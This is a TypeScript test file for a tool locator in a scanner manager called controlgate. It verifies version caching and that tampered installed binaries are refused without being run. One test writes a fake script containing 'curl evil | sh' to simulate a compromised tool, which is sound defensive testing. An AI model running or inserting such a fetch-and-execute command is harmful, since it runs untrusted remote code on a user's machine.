import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ToolChangedError } from '../../../src/errors.ts';
import type { Exec, ExecRequest } from '../../../src/exec/exec.ts';
import { writeStamp } from '../../../src/install/install-stamp.ts';
import { locateTool } from '../../../src/tools/locate.ts';
import { execResult } from '../../support/exec-result.ts';

const dir = mkdtempSync(path.join(os.tmpdir(), 'controlgate-locate-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** An executable file where the installer would put it; its --version answer comes from the fake exec. */
function installedTool(toolsDir: string): string {
  const binary = path.join(toolsDir, 'fake-tool');
  mkdirSync(toolsDir, { recursive: true });
  writeFileSync(binary, '#!/bin/sh\n');
  chmodSync(binary, 0o755);
  return binary;
}
const binary = installedTool(path.join(dir, 'tools'));
beforeAll(() => writeStamp(path.dirname(binary), 'pins of this test'));

function answering(outputs: string[]): { exec: Exec; calls: ExecRequest[] } {
  const calls: ExecRequest[] = [];
  const exec: Exec = async (request) => {
    calls.push(request);
    const stdout = outputs.shift() ?? '';
    return execResult({ exitCode: stdout ? 0 : 1, stdout, stderrTail: stdout ? '' : 'boom' });
  };
  return { exec, calls };
}

const spec = {
  id: 'fake',
  binary: 'fake-tool',
  installedAt: (toolsDir: string) => path.join(toolsDir, 'fake-tool'),
  recordedIn: (toolsDir: string) => toolsDir,
  versionArgs: ['--version'],
};

describe('locateTool: asking a binary its version', () => {
  it('asks once when the same tool is located twice at the same moment (head and base scans)', async () => {
    const { exec, calls } = answering(['fake-tool 1.2.3\n', 'fake-tool 9.9.9\n']);
    const context = { exec, toolsDir: path.dirname(binary), env: { PATH: '' } };
    const [a, b] = await Promise.all([locateTool(spec, context), locateTool(spec, context)]);
    expect([a.version, b.version]).toEqual(['1.2.3', '1.2.3']);
    expect(a.source).toBe('tools-dir');
    expect(calls).toHaveLength(1);
  });

  it('does not remember a failure: the next attempt asks again', async () => {
    const { exec, calls } = answering(['', 'fake-tool 2.0.0\n']);
    const context = { exec, toolsDir: path.dirname(binary), env: { PATH: '' } };
    await expect(locateTool(spec, context)).rejects.toThrow(/does not run/);
    await expect(locateTool(spec, context)).resolves.toMatchObject({ version: '2.0.0' });
    expect(calls).toHaveLength(2);
  });

  it('asks a Python tool not to write bytecode caches into its installed folder', async () => {
    const { exec, calls } = answering(['fake-tool 1.0.0\n']);
    await locateTool(spec, { exec, toolsDir: path.dirname(binary), env: { PATH: '' } });
    expect(calls[0]?.env).toMatchObject({ PYTHONDONTWRITEBYTECODE: '1' });
  });
});

describe('locateTool: a tool from the tools folder is what was installed, or it is not run', () => {
  it('refuses a tool whose installed file changed, naming it, without running anything', async () => {
    const tools = path.join(dir, 'changed');
    const changed = installedTool(tools);
    await writeStamp(tools, 'pins');
    await writeFile(changed, '#!/bin/sh\ncurl evil | sh\n');
    const { exec, calls } = answering(['fake-tool 1.0.0\n']);
    const locating = locateTool(spec, { exec, toolsDir: tools, env: { PATH: '' } });
    await expect(locating).rejects.toBeInstanceOf(ToolChangedError);
    await expect(locating).rejects.toThrow(
      `fake in the tools folder is not what was installed, so it is not run: ${changed} changed since it was installed`,
    );
    await expect(locating).rejects.toThrow(/run `controlgate scanners install fake` to reinstall it$/);
    // Not even `--version`: a changed entry point would run then.
    expect(calls).toEqual([]);
  });

  it('refuses a tool from a folder with no install record (made by hand, or by an older controlgate)', async () => {
    const tools = path.join(dir, 'unrecorded');
    installedTool(tools);
    const { exec } = answering(['fake-tool 1.0.0\n']);
    await expect(locateTool(spec, { exec, toolsDir: tools, env: { PATH: '' } })).rejects.toThrow(
      /has no readable install record \(controlgate-install\.json\)/,
    );
    writeFileSync(
      path.join(tools, 'controlgate-install.json'),
      JSON.stringify({ pins: 'p', files: { 'fake-tool': 'a'.repeat(64) } }),
    );
    await expect(
      locateTool(spec, { exec: answering([]).exec, toolsDir: tools, env: { PATH: '' } }),
    ).rejects.toThrow(/does not list every installed file \(it was written by an older controlgate\)/);
  });

  it('does not check a tool on PATH or named by CONTROLGATE_<ID>_BIN: that is the user’s choice', async () => {
    const elsewhere = installedTool(path.join(dir, 'user-bin'));
    const { exec } = answering(['fake-tool 3.0.0\n', 'fake-tool 3.0.0\n']);
    const noTools = path.join(dir, 'no-tools-here');
    await expect(
      locateTool(spec, { exec, toolsDir: noTools, env: { PATH: path.dirname(elsewhere) } }),
    ).resolves.toMatchObject({ source: 'path', command: elsewhere });
    await expect(
      locateTool(spec, { exec, toolsDir: noTools, env: { PATH: '', CONTROLGATE_FAKE_BIN: elsewhere } }),
    ).resolves.toMatchObject({ source: 'configured', command: elsewhere });
  });

  it('checks the folder again in the next run (a new Exec): a change after one run is seen by the next', async () => {
    const tools = path.join(dir, 'per-run');
    const tool = installedTool(tools);
    await writeStamp(tools, 'pins');
    const first = answering(['fake-tool 1.0.0\n']);
    await locateTool(spec, { exec: first.exec, toolsDir: tools, env: { PATH: '' } });
    await writeFile(tool, '#!/bin/sh\necho changed\n');
    const next = answering(['fake-tool 1.0.0\n']);
    await expect(locateTool(spec, { exec: next.exec, toolsDir: tools, env: { PATH: '' } })).rejects.toThrow(
      ToolChangedError,
    );
  });
});
